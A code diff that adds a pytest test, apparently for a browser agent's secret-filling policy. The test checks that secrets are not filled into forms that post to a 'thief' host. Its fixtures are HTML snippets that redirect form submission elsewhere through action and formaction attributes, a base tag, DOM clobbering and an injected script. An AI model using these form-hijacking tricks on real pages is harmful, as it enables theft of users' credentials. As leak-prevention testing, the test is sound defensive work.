@@ -172,6 +172,32 @@ async def test_a_frame_without_an_address_has_the_origin_of_its_page(page, bank)
     assert "Filled" in await page("fill", selector="iframe >> input", value="{{shop}}")
 
 
+FORMS = {
+    "action": "<form action=AWAY><input name=user></form>",
+    "formaction": "<form><input name=user><button formaction=AWAY>Go</button></form>",
+    "by its id": "<form id=f action=AWAY></form><input name=user form=f>",
+    "hidden by a field": "<form action=AWAY><input name=user><input name=action></form>",
+    "hidden method": "<form action=AWAY><input name=user><input name=getAttribute></form>",
+    "base": "<base href=AWAY><form action=/got><input name=user></form>",
+    "on input": """<form><input name=user></form><script>const [form] = document.forms;
+      form.oninput = () => form.setAttribute('action', 'AWAY')</script>""",
+}
+
+
+@pytest.mark.parametrize("action", ["fill", "type"])
+@pytest.mark.parametrize("form", FORMS)
+async def test_a_form_that_posts_elsewhere_gets_no_secret(page, bank, thief, form, action):
+    shown = FORMS[form].replace("AWAY", f"{thief}/got")
+    await page("navigate", url=f"{bank}/blank")
+    await page("evaluate", text=f"document.open(); document.write({shown!r}); document.close(); 0")
+    field = {"fill": "value", "type": "text"}[action]
+    with pytest.raises(PolicyDenied, match=f"sends the secret to '{thief}'"):
+        await page(action, selector="[name=user]", **{field: "{{shop}}"})
+    held = await page("evaluate", text="document.querySelector('[name=user]').value")
+    assert held.startswith('""')
+    assert "Filled" in await page("fill", selector="[name=user]", value="Ada")
+
+
 @pytest.mark.parametrize("action", ["fill", "type"])
 async def test_a_field_that_moves_into_another_document_gets_none(page, bank, action):
     bank.requests.clear()
